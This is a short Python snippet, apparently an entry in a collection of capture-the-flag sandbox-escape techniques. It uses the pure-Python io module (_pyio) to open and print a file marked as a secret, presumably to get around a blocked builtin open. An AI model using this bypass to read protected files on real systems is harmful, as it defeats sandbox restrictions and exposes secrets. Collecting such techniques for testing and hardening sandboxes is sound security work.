# technique: the Python implementation of io
# goal: read-secret
# source: CTF folklore
import _pyio
print(_pyio.open('@SECRET@', 'rb').read())
